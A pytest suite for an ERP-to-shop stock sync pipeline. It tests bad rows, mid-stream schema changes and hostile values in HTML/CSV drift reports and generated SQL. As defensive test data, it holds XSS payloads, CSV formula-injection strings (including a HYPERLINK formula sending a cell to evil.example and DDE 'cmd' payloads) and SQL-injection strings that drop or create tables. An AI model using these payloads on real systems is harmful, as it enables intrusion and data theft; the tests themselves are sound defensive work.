"""Hostile ERP data and schema changes under a running pipeline (PostgreSQL): bad rows are recorded as data
errors naming the table and row, every good row still arrives, and nothing stops the stream."""

from __future__ import annotations

import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import psycopg2
import pytest
import yaml

from erpsync.testing import wait_for
from sinks.emulators.webhook import WebhookEmulator
from tests.test_e2e import Running


class Env:
    def __init__(self, dsn: str, tmp_path: Path, shop: WebhookEmulator) -> None:
        self.dsn, self.tmp, self.shop = dsn, tmp_path, shop
        self.conn = psycopg2.connect(dsn)
        self.conn.autocommit = True

    def sql(self, q: str, params: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
        with self.conn.cursor() as cur:
            cur.execute(q, params)
            return list(cur.fetchall()) if cur.description else []

    def config(self, quantity: str = "qty") -> str:
        cfg = {"source": {"kind": "postgres", "dsn": self.dsn, "heartbeat_seconds": 1},
               "stock": {"table": "public.inv", "sku": "sku", "warehouse": "wh", "quantity": quantity,
                         "locations": {"WH-MAD": "madrid"}},
               "sinks": [{"name": "shop", "kind": "webhook", "url": self.shop.endpoint,
                          "timeout_seconds": 2, "unsigned": True}],
               "outbox": {"path": str(self.tmp / "outbox.db"), "commit_interval_ms": 10},
               "ops": {"listen": "127.0.0.1:0"}}
        p = self.tmp / "erpsync.yaml"
        p.write_text(yaml.safe_dump(cfg))
        return str(p)

    def data_errors(self) -> list[tuple[str, str, str]]:
        conn = sqlite3.connect(self.tmp / "outbox.db")
        try:
            return conn.execute("SELECT tbl, rowkey, problem FROM data_errors ORDER BY rowkey").fetchall()
        finally:
            conn.close()

    def arrives(self, want: dict[tuple[str, str], int], timeout: float = 30) -> None:
        ok = wait_for(lambda: all(self.shop.stock().get(k) == v for k, v in want.items()), timeout=timeout)
        assert ok, f"want {want}, shop has {self.shop.stock()}"

    def close(self) -> None:
        self.sql("SELECT pg_terminate_backend(active_pid) FROM pg_replication_slots "
                 "WHERE database = current_database() AND active_pid IS NOT NULL")
        for _ in range(50):
            try:
                self.sql("SELECT pg_drop_replication_slot(slot_name) FROM pg_replication_slots "
                         "WHERE database = current_database()")
                break
            except psycopg2.Error:
                import time

                time.sleep(0.1)
        self.conn.close()


@pytest.fixture
def env(pg_dsn: str, tmp_path: Path) -> Iterator[Env]:
    shop = WebhookEmulator()
    shop.start()
    e = Env(pg_dsn, tmp_path, shop)
    e.sql("""CREATE TABLE inv (id bigserial PRIMARY KEY, sku text, wh text NOT NULL DEFAULT 'WH-MAD',
             qty numeric(30,3), qty_text text, note text)""")
    e.sql("INSERT INTO inv (sku, qty, qty_text) VALUES ('GOOD-1', 5, '5')")
    yield e
    e.close()
    shop.stop()


def test_null_sku_contributes_nothing_and_good_rows_arrive(env: Env) -> None:
    with Running(env.config()):
        env.arrives({("GOOD-1", "madrid"): 5})
        env.sql("INSERT INTO inv (sku, qty) VALUES (NULL, 7), ('GOOD-2', 2)")
        env.arrives({("GOOD-2", "madrid"): 2})
    assert all(k[0] for k in env.shop.stock())  # no None / "None" SKU reached the shop


def test_null_sku_is_recorded_as_a_data_error(env: Env) -> None:
    with Running(env.config()):
        env.sql("INSERT INTO inv (sku, qty) VALUES (NULL, 7), ('GOOD-2', 2)")
        env.arrives({("GOOD-2", "madrid"): 2})
    assert any(t == "public.inv" and "sku" in p for t, _r, p in env.data_errors())


def test_duplicate_sku_rows_are_summed(env: Env) -> None:
    with Running(env.config()):
        env.sql("INSERT INTO inv (sku, qty) VALUES ('DUP', 3), ('DUP', 4)")
        env.arrives({("DUP", "madrid"): 7})
        env.sql("DELETE FROM inv WHERE sku='DUP' AND qty=3")
        env.arrives({("DUP", "madrid"): 4})


def test_non_numeric_quantity_in_a_text_column_is_a_data_error(env: Env) -> None:
    with Running(env.config(quantity="cast(qty_text as decimal)")):
        env.arrives({("GOOD-1", "madrid"): 5})
        env.sql("INSERT INTO inv (sku, qty_text) VALUES ('TXT', 'twelve'), ('GOOD-3', '3')")
        env.arrives({("GOOD-3", "madrid"): 3})
        wait_for(lambda: env.data_errors(), timeout=10)
    errs = env.data_errors()
    assert len(errs) == 1 and errs[0][0] == "public.inv" and "stock.quantity" in errs[0][2], errs
    assert ("TXT", "madrid") not in env.shop.stock()


def test_quantity_of_10_to_the_20_arrives_exactly(env: Env) -> None:
    with Running(env.config()):
        env.sql("INSERT INTO inv (sku, qty) VALUES ('HUGE', 1e20)")
        env.arrives({("HUGE", "madrid"): 10**20})  # an int end to end, no float rounding
        env.sql("UPDATE inv SET qty = 1e20 + 1 WHERE sku='HUGE'")
        env.arrives({("HUGE", "madrid"): 10**20 + 1})


def test_ten_megabyte_text_value_passes_and_the_stock_follows(env: Env) -> None:
    with Running(env.config()):
        env.arrives({("GOOD-1", "madrid"): 5})
        env.sql("UPDATE inv SET note = repeat('x', 10 * 1024 * 1024) WHERE sku='GOOD-1'")
        env.sql("UPDATE inv SET qty = 6 WHERE sku='GOOD-1'")  # unchanged TOASTed note: marker, not value
        env.arrives({("GOOD-1", "madrid"): 6})
        env.sql("UPDATE inv SET qty = 7, note = note || 'y' WHERE sku='GOOD-1'")
        env.arrives({("GOOD-1", "madrid"): 7})


def test_invalid_utf8_sku_in_a_sql_ascii_database(pg_server: Any, tmp_path: Path) -> None:
    """SQL_ASCII databases store any bytes: a SKU that is not UTF-8 must not stop the stream."""
    admin = psycopg2.connect(pg_server.dsn())
    admin.autocommit = True
    name = f"ascii{next(_n)}"
    with admin.cursor() as cur:
        cur.execute(f"CREATE DATABASE {name} ENCODING 'SQL_ASCII' LC_COLLATE 'C' LC_CTYPE 'C' "
                    "TEMPLATE template0")
    admin.close()
    shop = WebhookEmulator()
    shop.start()
    e = Env(pg_server.dsn(name), tmp_path, shop)
    try:
        e.sql("CREATE TABLE inv (id bigserial PRIMARY KEY, sku text, wh text NOT NULL DEFAULT 'WH-MAD', "
              "qty numeric(30,3), qty_text text, note text)")
        e.sql("SET client_encoding = 'SQL_ASCII'")
        with Running(e.config()):
            e.sql("INSERT INTO inv (sku, qty) VALUES ('GOOD-1', 1)")
            e.arrives({("GOOD-1", "madrid"): 1})
            e.sql("INSERT INTO inv (sku, qty) VALUES (convert_from('\\xff41'::bytea, 'SQL_ASCII'), 9)")
            e.sql("INSERT INTO inv (sku, qty) VALUES ('GOOD-2', 2)")
            e.arrives({("GOOD-2", "madrid"): 2})
        skus = {k[0] for k in shop.stock()}
        assert skus <= {"GOOD-1", "GOOD-2", "\ufffdA"}, skus  # replaced, never a crash or mojibake key
    finally:
        e.close()
        shop.stop()


_n = iter(range(1, 10**6))


# schema changes mid-stream -----------------------------------------------------------------------------
def test_unused_column_dropped_mid_stream(env: Env) -> None:
    with Running(env.config()):
        env.arrives({("GOOD-1", "madrid"): 5})
        env.sql("ALTER TABLE inv DROP COLUMN note")
        env.sql("UPDATE inv SET qty = 8 WHERE sku='GOOD-1'")
        env.arrives({("GOOD-1", "madrid"): 8})


@pytest.mark.parametrize("ddl", ["ALTER TABLE inv DROP COLUMN qty",
                                 "ALTER TABLE inv RENAME COLUMN qty TO q2"], ids=["dropped", "renamed"])
def test_mapped_column_gone_mid_stream_is_named_and_loses_nothing(env: Env, ddl: str) -> None:
    r = Running(env.config())
    with r:
        env.arrives({("GOOD-1", "madrid"): 5})
        env.sql(ddl)
        env.sql("UPDATE inv SET note = 'touched' WHERE sku='GOOD-1'")
        # the rule cannot be evaluated any more: a data error naming it, or the stream stops naming it;
        # either way the shop keeps the last good value, never a 0 made up from a missing column
        wait_for(lambda: env.data_errors() or r.error is not None
                 or env.shop.stock().get(("GOOD-1", "madrid")) != 5, timeout=15)
        import time

        time.sleep(1)
        assert env.shop.stock()[("GOOD-1", "madrid")] == 5, env.shop.stock()
    problems = " ".join(p for _t, _r, p in env.data_errors()) + str(r.error or "")
    assert "stock.quantity" in problems or "qty" in problems, problems


def test_table_dropped_mid_stream_then_restart_names_it(env: Env) -> None:
    from click.testing import CliRunner

    from erpsync.cli import main

    path = env.config()
    with Running(path):
        env.arrives({("GOOD-1", "madrid"): 5})
        env.sql("DROP TABLE inv")
        env.sql("CREATE TABLE unrelated (x int)")
        env.sql("INSERT INTO unrelated VALUES (1)")
        import time

        time.sleep(1)  # the stream survives a DROP it cannot see
    assert env.shop.stock()[("GOOD-1", "madrid")] == 5
    r = CliRunner().invoke(main, ["--log-format", "text", "run", "--config", path])
    assert r.exit_code == 2 and "stock.table" in r.output and "inv" in r.output, r.output


@pytest.mark.parametrize("identity", ["FULL", "DEFAULT"])
def test_replica_identity_changed_mid_stream(env: Env, identity: str) -> None:
    with Running(env.config()):
        env.arrives({("GOOD-1", "madrid"): 5})
        env.sql(f"ALTER TABLE inv REPLICA IDENTITY {identity}")
        env.sql("INSERT INTO inv (sku, qty) VALUES ('RI', 4)")
        env.sql("UPDATE inv SET qty = 9 WHERE sku='GOOD-1'")
        env.sql("DELETE FROM inv WHERE sku='RI'")
        env.arrives({("GOOD-1", "madrid"): 9, ("RI", "madrid"): 0})


def test_replica_identity_nothing_is_refused_by_the_erp_not_lost(env: Env) -> None:
    """With REPLICA IDENTITY NOTHING PostgreSQL refuses UPDATE/DELETE on a published table: the ERP sees
    the error itself, nothing reaches the log half-done, and the stream carries on."""
    with Running(env.config()):
        env.arrives({("GOOD-1", "madrid"): 5})
        env.sql("ALTER TABLE inv REPLICA IDENTITY NOTHING")
        with pytest.raises(psycopg2.Error, match="replica identity"):
            env.sql("UPDATE inv SET qty = 1 WHERE sku='GOOD-1'")
        env.sql("INSERT INTO inv (sku, qty) VALUES ('AFTER', 3)")
        env.arrives({("AFTER", "madrid"): 3, ("GOOD-1", "madrid"): 5})


# hostile values in the drift report (HTML + CSV) ---------------------------------------------------------
def _drift_reports(tmp_path: Path, rows: list[tuple[Any, ...]],
                   summaries: list[dict[str, Any]]) -> tuple[Path, Path]:
    """The HTML and CSV reports of a drift table holding ``rows`` (sink, drift, sku, scope, erp, shop,
    note), as the reconciler writes them."""
    import duckdb

    from reconciler.diff import DRIFT_TABLE
    from reconciler.report import write_reports

    con = duckdb.connect()
    con.execute(DRIFT_TABLE)
    con.executemany("INSERT INTO drift VALUES (?, ?, 'stock', ?, ?, ?, ?, NULL, NULL, ?, ?)",
                    [(s, d, sku, scope, e, sh, abs((e or 0) - (sh or 0)), note)
                     for s, d, sku, scope, e, sh, note in rows])
    from datetime import datetime

    trend = [{"run_id": 7, "at": datetime(2025, 1, 2, 6, 0), "total": len(rows)}]
    return write_reports(con, tmp_path / "reports", summaries=summaries, trend=trend, run_id=7, max_items=100)


PWN = "document.title='pwned';document.body.setAttribute('data-pwned','1')"
HOSTILE_SKUS = ["<!--<script>", "</script>", f'"><img src=x onerror="{PWN}">', "</script><script>" + PWN +
                "</script>", "SKU-&amp;-<b>bold</b>", "'-->]]></title></svg><svg onload=\"" + PWN + '">',
                "NORMAL-1", "\u2028line\u2029sep</SCRIPT >", "<style>body{display:none}</style>", "NORMAL-2"]
HOSTILE_SCOPE = f'madrid</text><script>{PWN}</script><text onclick="{PWN}">'
HOSTILE_SINK = f'shop"><img src=x onerror="{PWN}">'
HOSTILE_ERROR = f"HTTP 500: <!--<script>{PWN}</script>"


class _DomReader:
    """What a person sees in Chromium's DOM: the item rows' cells, every element, warnings, chart labels."""

    def __init__(self, dom: str) -> None:
        from html.parser import HTMLParser

        self.rows: list[list[str]] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.warns: list[str] = []
        self.svg_texts: list[str] = []
        self.title = ""
        self.in_rows: list[str] = []
        stack: list[str] = []
        outer = self

        class P(HTMLParser):
            def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
                a = dict(attrs)
                outer.tags.append((tag, a))
                if "item" in stack:
                    outer.in_rows.append(tag)
                if tag == "tr" and a.get("class") == "item":
                    outer.rows.append([])
                if tag == "td" and "item" in stack:
                    outer.rows[-1].append("")
                if tag == "div" and a.get("class") == "warn":
                    outer.warns.append("")
                if tag == "text":
                    outer.svg_texts.append("")
                stack.append("item" if tag == "tr" and a.get("class") == "item" else
                             "warn" if tag == "div" and a.get("class") == "warn" else tag)

            def handle_endtag(self, tag: str) -> None:
                while stack:
                    top = stack.pop()
                    if top == tag or (top == "item" and tag == "tr") or (top == "warn" and tag == "div"):
                        break

            def handle_data(self, data: str) -> None:
                if "td" in stack and "item" in stack:
                    outer.rows[-1][-1] += data
                if "warn" in stack:
                    outer.warns[-1] += data
                if stack and stack[-1] == "text":
                    outer.svg_texts[-1] += data
                if stack and stack[-1] == "title" and "svg" not in stack:
                    outer.title += data

        p = P(convert_charrefs=True)
        p.feed(dom)
        p.close()


def _chromium_dom(html: Path, tmp_path: Path) -> tuple[str, str]:
    import shutil
    import subprocess

    chromium = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if not chromium:
        pytest.skip("chromium is not installed (apt-get install -y chromium) — cannot render the report")
    r = subprocess.run([chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
                        "--no-first-run", "--disable-background-networking", "--disable-component-update",
                        "--disable-sync", f"--user-data-dir={tmp_path / 'profile'}",
                        "--enable-logging=stderr", "--v=0", "--dump-dom", html.as_uri()],
                       capture_output=True, text=True, timeout=90, check=True)
    return r.stdout, r.stderr


def test_html_report_shows_every_row_of_hostile_skus_in_chromium(tmp_path: Path) -> None:
    rows = [(HOSTILE_SINK if i == 2 else "shop", "stock_mismatch", sku, HOSTILE_SCOPE if i % 2 else "milan",
             10 + i, i, f"note {i}: {sku}") for i, sku in enumerate(HOSTILE_SKUS)]
    summaries = [{"sink": "shop", "erp_position": "0/1<!--", "erp_keys": 10, "shop_keys": 10,
                  "drift_total": 9, "caught_up": True},
                 {"sink": HOSTILE_SINK, "error": HOSTILE_ERROR, "heal_refused": HOSTILE_ERROR}]
    html, _csv = _drift_reports(tmp_path, rows, summaries)
    dom, log = _chromium_dom(html, tmp_path)
    seen = _DomReader(dom)
    # the script ran and built every row; each cell shows the value as text, verbatim
    assert 'data-ready="10"' in dom and len(seen.rows) == 10, f"{len(seen.rows)} of 10 rows shown"
    assert sorted(r[2] for r in seen.rows) == sorted(HOSTILE_SKUS)
    assert {r[3] for r in seen.rows} == {HOSTILE_SCOPE, "milan"}
    assert sorted(r[7] for r in seen.rows) == sorted(f"note {i}: {s}" for i, s in enumerate(HOSTILE_SKUS))
    assert HOSTILE_SINK in {r[0] for r in seen.rows}
    assert any(HOSTILE_SINK in w and HOSTILE_ERROR in w for w in seen.warns), seen.warns
    assert HOSTILE_SCOPE in seen.svg_texts  # the chart's label is text, not markup
    # no markup from the data became an element, nothing of it ran, no policy violation of our own
    names = [t for t, _ in seen.tags]
    assert [names.count(t) for t in ("img", "script", "svg", "style")] == [0, 3, 2, 1]
    assert set(seen.in_rows) == {"td", "span"}  # a cell holds text (and the kind's tag), no markup
    assert not [a for _, a in seen.tags if {"onerror", "onload", "onclick", "data-pwned"} & set(a)]
    assert seen.title == "Drift report #7"
    assert 'http-equiv="Content-Security-Policy"' in html.read_text()
    assert "Content Security Policy" not in log, log


def test_csv_report_neutralises_formulas_and_keeps_numbers(tmp_path: Path) -> None:
    import csv
    import email
    import io

    from reconciler.config import EmailConfig
    from reconciler.mail import build_message

    formulas = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
                "\uff1d1+1", "\uff0bcmd|' /C calc'!A0", "\uff0d2+3", "\uff20SUM(1)"]
    rows = [("shop", "stock_mismatch", sku, formulas[(i + 1) % 10], -5 - i, 3 + i, formulas[(i + 2) % 10])
            for i, sku in enumerate(formulas)]
    rows += [("=shop", "not_in_erp", "PLAIN, \"quoted\"", "madrid", None, 7, None),
             ("shop", "missing_in_shop", "PLAIN-2", "milan", 4, None, "fine")]
    _html, csv_path = _drift_reports(tmp_path, rows, [{"sink": "shop", "drift_total": len(rows)}])
    raw = csv_path.read_bytes().decode("utf-8")  # as written: a CR inside a cell stays a CR
    parsed = list(csv.reader(io.StringIO(raw, newline="")))
    header, body = parsed[0], parsed[1:]
    assert header == ["sink", "drift", "kind", "sku", "location_or_price_list", "erp_value", "shop_value",
                      "erp_currency", "shop_currency", "severity", "note"]
    assert len(body) == len(rows)
    numeric = {"erp_value", "shop_value", "severity"}
    for line in body:
        for name, cell in zip(header, line, strict=True):
            if name in numeric:
                assert cell == "" or isinstance(float(cell), float), (name, cell)  # a number, as it was
            else:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d",
                                            "\uff20")), (name, cell)
    by_sku = {r[3]: r for r in body}
    for i, f in enumerate(formulas):
        r = by_sku["'" + f]  # the original value behind a single quote, nothing lost
        assert r[4] == "'" + formulas[(i + 1) % 10] and r[10] == "'" + formulas[(i + 2) % 10]
        assert float(r[5]) == -5 - i and float(r[6]) == 3 + i and not r[5].startswith(("'", '"'))
        assert '"\'' + f.replace('"', '""') + '"' in raw  # the defused cell is quoted
    assert by_sku['PLAIN, "quoted"'][0] == "'=shop" and by_sku["PLAIN-2"][10] == "fine"
    assert float(by_sku["PLAIN-2"][5]) == 4 and by_sku["PLAIN-2"][6] == ""
    # the e-mailed attachment is this same defused CSV
    cfg = EmailConfig.model_validate({"to": ["merch@example.com"], "smtp_host": "127.0.0.1",
                                      "starttls": False})
    msg = email.message_from_bytes(build_message(cfg, "drift", "text", _html, csv_path).as_bytes())
    [att] = [p for p in msg.walk() if p.get_filename() == csv_path.name]
    assert att.get_payload(decode=True).decode() == raw


# SQL built from config names (issue: location names, warehouse codes) --------------------------------------
# A shop location name closing the snapshot SELECT's literal early and running two more statements; the
# "--" comments out the rest of the (one-line) SELECT. Written against the old text post-processing
# (a "THEN '" inside a name lost its doubled quote) and, with the backslash, against a session with
# standard_conforming_strings off (where \' is an escaped quote).
_TAIL = (" THEN 0 END, 0), 0) AS available FROM (SELECT 1 AS sku, NULL AS location, 0 AS qty, 0 AS safety) "
         "AS r GROUP BY sku, location) AS q; DROP TABLE canary; "
         "CREATE TABLE pwned AS SELECT current_user AS u; --")
INJECTING_LOCATIONS = ["zTHEN '" + _TAIL, "\\'" + _TAIL]


def _injection_config(erp: Any, tmp_path: Path, location: str) -> Path:
    cfg = yaml.safe_load(Path(erp.config(tmp_path, "http://127.0.0.1:9/hook")).read_text())
    cfg["stock"]["locations"] = {"WH-MAD": location}
    cfg["stock"]["safety_stock"] = {location: 3}
    path = tmp_path / "inj.yaml"
    path.write_text(yaml.safe_dump(cfg))
    return path


@pytest.mark.parametrize("location", INJECTING_LOCATIONS, ids=["then-quote", "backslash-quote"])
def test_location_name_is_data_in_config_validate(pg_dsn: str, tmp_path: Path, location: str) -> None:
    """`config validate` runs the snapshot SELECT on the ERP: the hostile location name is a plain value
    there (OK, the canary table survives, nothing is created), and the SELECT gives it back verbatim."""
    from click.testing import CliRunner

    from cdc.mapping.snapshot_sql import facts_select
    from erpsync.cli import main
    from erpsync.config import load_config_text
    from tests.erp import PostgresErp

    erp = PostgresErp(pg_dsn)
    try:
        erp.create_stock_table()
        erp.execute("CREATE TABLE canary (x int)")
        erp.execute("INSERT INTO stock_levels (sku, warehouse_code, on_hand) VALUES ('S-1', 'WH-MAD', 10)")
        path = _injection_config(erp, tmp_path, location)
        r = CliRunner().invoke(main, ["--log-format", "text", "config", "validate", str(path)])
        assert erp.query("SELECT count(*) FROM canary") == [(0,)]
        assert erp.query("SELECT to_regclass('public.pwned') IS NULL") == [(True,)]
        assert r.exit_code == 0, r.output
        sql = facts_select(load_config_text(path.read_text(), str(path)), "postgres")["stock"]
        assert erp.query(sql) == [("S-1", location, 7)]  # 10 on hand - 3 safety stock of that location
    finally:
        erp.close()


def test_location_name_is_data_even_with_standard_conforming_strings_off(pg_dsn: str,
                                                                          tmp_path: Path) -> None:
    """An ERP session reading backslashes as escapes (standard_conforming_strings = off, e.g. set on the
    database) must not turn a backslash-quote in a name into the end of the literal: the check sets the
    session back to standard strings before running generated SQL."""
    import psycopg2

    from erpsync.config import load_config_text
    from erpsync.erpdb import check_mapping
    from tests.erp import PostgresErp

    erp = PostgresErp(pg_dsn)
    conn = psycopg2.connect(pg_dsn)
    try:
        erp.create_stock_table()
        erp.execute("CREATE TABLE canary (x int)")
        conn.autocommit = True  # what an injected statement did would stay
        with conn.cursor() as cur:
            cur.execute("SET standard_conforming_strings = off")
        path = _injection_config(erp, tmp_path, INJECTING_LOCATIONS[1])
        check_mapping(load_config_text(path.read_text(), str(path)), conn)
        assert erp.query("SELECT count(*) FROM canary") == [(0,)]
        assert erp.query("SELECT to_regclass('public.pwned') IS NULL") == [(True,)]
    finally:
        conn.close()
        erp.close()


def test_generated_sql_runs_only_as_one_select() -> None:
    """The last guard before the ERP: a text that is not exactly one SELECT is refused."""
    from cdc.mapping.safe_sql import UnsafeSQL, one_select

    assert one_select("SELECT 1 FROM t WHERE a = 'x; DROP TABLE y'", "postgres")
    for sql in ("SELECT 1; DROP TABLE canary", "DROP TABLE canary", "SELECT 1 INTO pwned FROM t",
                "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "SELECT 1; SELECT 2"):
        with pytest.raises(UnsafeSQL):
            one_select(sql, "postgres")
    with pytest.raises(UnsafeSQL):
        one_select("SELECT 1; DROP TABLE canary", "mysql")


def test_backslash_in_a_warehouse_code_reconciles_right_on_mariadb(mariadb_server: Any,
                                                                    tmp_path: Path) -> None:
    """MariaDB reads a backslash in a string literal as an escape: the snapshot SELECT must write the
    warehouse code WH\\MIL so that it means WH\\MIL, or the stream (which maps it) and the snapshot differ."""
    from tests.mapping_harness import MariaHarness

    h = MariaHarness(mariadb_server, "dolibarr-mariadb.yaml", "dolibarr-mariadb.sql", tmp_path)
    assert "WH-MIL: milan" in h.text
    h.text = h.text.replace("WH-MIL: milan", "'WH\\MIL': milan")
    h.n = 7300  # its database is mprop7301: not one the property tests' harness creates (mprop1, ...)
    try:
        h.reset()
        h.begin()
        h.exec("INSERT INTO llx_product (rowid, ref, tosell) VALUES (1, 'P-1', 1)")
        h.exec("INSERT INTO llx_entrepot (rowid, ref, statut) VALUES (1, %s, 1)", ("WH\\MIL",))
        h.exec("INSERT INTO llx_entrepot (rowid, ref, statut) VALUES (2, 'WHMIL', 1)")
        h.exec("INSERT INTO llx_product_stock (fk_product, fk_entrepot, reel) VALUES (1, 1, 5), (1, 2, 7)")
        h.commit()
        assert h.actual()["stock"] == {("P-1", "milan"): 5}  # the stream: WH\MIL is milan, WHMIL nothing
        h.check()  # the snapshot SELECT on MariaDB says the same
    finally:
        h.close()


@pytest.mark.parametrize("odd", ["o'neil", "x') OR 1=1 --", "WH\\MAD", "a'; DROP TABLE erp_facts; --"])
def test_sink_location_and_price_list_names_are_values_in_the_diff(odd: str) -> None:
    """The sink's locations and price lists (config) reach DuckDB as bound values: a quote, backslash or
    comment in one selects exactly that scope and nothing else."""
    import duckdb

    from reconciler import diff

    con = duckdb.connect()
    for t in ("erp_facts", "shop_facts"):
        con.execute(f"CREATE TABLE {t} (kind VARCHAR, sku VARCHAR, scope VARCHAR, value DECIMAL(18,8), "
                    "currency VARCHAR)")
    con.execute("CREATE TABLE erp_unmapped (sku VARCHAR, warehouses VARCHAR)")
    diff.load_in_flight(con, [])
    rows = [("stock", "S-1", odd, 5, None), ("stock", "S-1", "other", 5, None),
            ("price", "S-1", odd, 9.5, "EUR"), ("price", "S-1", "retail", 9.5, "EUR")]
    con.executemany("INSERT INTO erp_facts VALUES (?, ?, ?, ?, ?)", rows)
    con.executemany("INSERT INTO shop_facts VALUES (?, ?, ?, ?, ?)",
                    [("stock", "S-1", odd, 4, None), ("price", "S-1", odd, 9.0, "EUR")])
    res = diff.classify(con, "shop", kinds=["stock", "price"], locations=[odd], price_lists=[odd])
    assert (res.erp_keys, res.shop_keys) == (2, 2)
    assert res.counts["stock_mismatch"] == 1 and res.counts["price_mismatch"] == 1 and res.total == 2
    assert {(i["sku"], i["scope"]) for i in diff.items(con, "shop")} == {("S-1", odd)}
    assert con.execute("SELECT count(*) FROM erp_facts").fetchone() == (4,)


def test_backtick_in_a_mariadb_table_name_is_quoted(mariadb_server: Any, tmp_path: Path) -> None:
    """A mapped MariaDB table whose name holds a backtick: the source's checks and its snapshot quote it
    (a backtick doubled), so the table is read and nothing else is."""
    from cdc.sources.mysql.replication import MySQLSource
    from erpsync.config import load_config_text
    from tests.erp import MariaErp

    db = mariadb_server.create_database("btick1")
    erp = MariaErp(mariadb_server, db)
    try:
        erp.execute("CREATE TABLE `st``ock` (id INT PRIMARY KEY, sku VARCHAR(16), wh VARCHAR(16), qty INT)")
        erp.execute("INSERT INTO `st``ock` VALUES (1, 'S-1', 'WH-MAD', 4)")
        cfg = {"source": erp.source("erpsync"),
               "stock": {"table": f"{db}.st`ock", "sku": "sku", "warehouse": "wh", "quantity": "qty",
                         "locations": {"WH-MAD": "madrid"}},
               "sinks": []}
        conf = load_config_text(yaml.safe_dump(cfg), "<test>")
        src = MySQLSource(conf.source, [f"{db}.st`ock"])
        try:
            src.prepare()
            rows = [c.after for chunk in src.snapshot([f"{db}.st`ock"]) for c in chunk.changes]
        finally:
            src.close()
        assert [(r["sku"], r["qty"]) for r in rows] == [("S-1", 4)]
    finally:
        erp.close()  # type: ignore[attr-defined]


def test_mariadb_session_without_backslash_escapes_reads_the_literals_as_written(mariadb_server: Any) -> None:
    """A MariaDB session in sql_mode NO_BACKSLASH_ESCAPES would read the snapshot SELECT's 'WH\\\\MAD' as
    two backslashes: checked() puts the session back to backslash escapes before generated SQL runs."""
    from cdc.mapping.safe_sql import checked
    from cdc.mapping.snapshot_sql import facts_select
    from erpsync.config import load_config_text
    from tests.erp import MariaErp

    erp = MariaErp(mariadb_server, mariadb_server.create_database("nbe1"))
    try:
        erp.create_stock_table()
        erp.execute("INSERT INTO stock_levels (sku, warehouse_code, on_hand) VALUES ('S-1', %s, 6)",
                    ("WH\\MAD",))
        erp.execute("SET SESSION sql_mode = CONCAT(@@SESSION.sql_mode, ',NO_BACKSLASH_ESCAPES')")
        cfg = {"source": erp.source("erpsync"),
               "stock": {"table": "stock_levels", "sku": "sku", "warehouse": "warehouse_code",
                         "quantity": "on_hand", "locations": {"WH\\MAD": "madrid"}},
               "sinks": []}
        sql = facts_select(load_config_text(yaml.safe_dump(cfg), "<test>"), "mysql")["stock"]
        rows = erp.query(checked(erp.conn, sql, "mysql"))
        assert [(r[0], r[1], int(r[2])) for r in rows] == [("S-1", "madrid", 6)]
    finally:
        erp.close()  # type: ignore[attr-defined]


def test_mysql_connection_allowing_several_statements_is_refused(mariadb_server: Any) -> None:
    from pymysql.constants import CLIENT

    from cdc.mapping.safe_sql import UnsafeSQL, checked

    conn = mariadb_server.connect(client_flag=CLIENT.MULTI_STATEMENTS)
    try:
        with pytest.raises(UnsafeSQL, match="MULTI_STATEMENTS"):
            checked(conn, "SELECT 1", "mysql")
    finally:
        conn.close()
